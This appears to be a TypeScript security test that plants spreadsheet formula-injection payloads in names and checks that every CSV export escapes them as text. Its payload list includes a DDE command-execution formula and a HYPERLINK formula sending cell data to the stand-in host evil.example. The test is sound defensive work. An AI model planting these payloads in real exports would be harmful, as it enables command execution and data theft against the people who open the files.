import { operations } from '@app/contract';
import type { Operation } from '@app/contract';
import { readCsv } from '../../apps/server/test/csv.ts';
import { Findings } from '../shared/attack.ts';
import type { Attack } from '../shared/attack.ts';
import { furnish } from '../shared/furnish.ts';

const formulas = [
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3+cmd',
  '@SUM(1+1)*cmd',
  '=HYPERLINK("https://evil.example?x="&A1,"click")',
  '＝1+1',
  '  =1+1',
] as const;

const dangerous = /^[\s]*[=+\-@＝＋－＠\t\r\0]/u;
/** The log has what people wrote within JSON, so there it begins no cell. */
const withoutTexts = '/api/staff/audit/export';
const figure = /^[+-]?\d+(?:[.,]\d+)*$/;

/** Names that a spreadsheet would run: in every file that can be downloaded they are words. */
export const formulasAttack: Attack = {
  name: 'formulas',
  what: 'formulas in names and references, in every export',
  run: async (stage) => {
    const findings = new Findings();
    const admin = await stage.staff();
    const counts = { files: 0, cells: 0 };
    const exports = exportsOf();
    findings.expect(exports.length > 0, 'The staff app has no export.');
    for (const formula of stage.short ? formulas.slice(0, 3) : formulas) {
      const { owner } = await furnish(stage, formula);
      const today = new Date().toISOString().slice(0, 10);
      const statement = `/api/statements?format=csv&from=2020-01-01&to=${today}`;
      const files: [string, string][] = [[statement, owner.token]];
      for (const path of exports) files.push([path, admin.token]);
      for (const [path, token] of files) {
        const { status, text, headers } = await stage.wide.call('GET', path, { token });
        const isCsv = (headers.get('content-type') ?? '').startsWith('text/csv');
        findings.expect(status === 200 && isCsv, `${path} is no CSV: ${status}`);
        if (status !== 200 || !isCsv) continue;
        const cells = cellsOf(text);
        const planted = cells.some(({ cell }) => isWordsOf(cell, formula));
        findings.expect(planted || path === withoutTexts, `${path} is without the text ${formula}`);
        lookAt(findings, path, cells);
        counts.files += 1;
        counts.cells += cells.length;
      }
    }
    return { findings: findings.list, figures: counts };
  },
};

interface Cell {
  readonly column: string;
  readonly cell: string;
}

function cellsOf(text: string): Cell[] {
  return readCsv(text.replace(/^\ufeff/, '')).flatMap((row) =>
    Object.entries(row).map(([column, cell]) => ({ column, cell })),
  );
}

/** Whether the cell holds the formula, marked as words. */
function isWordsOf(cell: string, formula: string): boolean {
  return cell.startsWith("'") && cell.slice(1).trim() === formula.trim();
}

function lookAt(findings: Findings, path: string, cells: readonly Cell[]): void {
  for (const { column, cell } of cells) {
    const runs = dangerous.test(cell) && !figure.test(cell);
    findings.expect(!runs, `${path}: column ${column} begins as a formula: ${cell.slice(0, 60)}`);
  }
}

const isName = (name: string): name is keyof typeof operations => Object.hasOwn(operations, name);

/** Every CSV of the staff app. */
function exportsOf(): string[] {
  return Object.keys(operations)
    .filter(isName)
    .map((name): Operation => operations[name])
    .filter(({ produces, path }) => produces?.includes('text/csv') && !path.includes(':'))
    .map(({ path }) => path)
    .filter((path) => path.startsWith('/api/staff'));
}
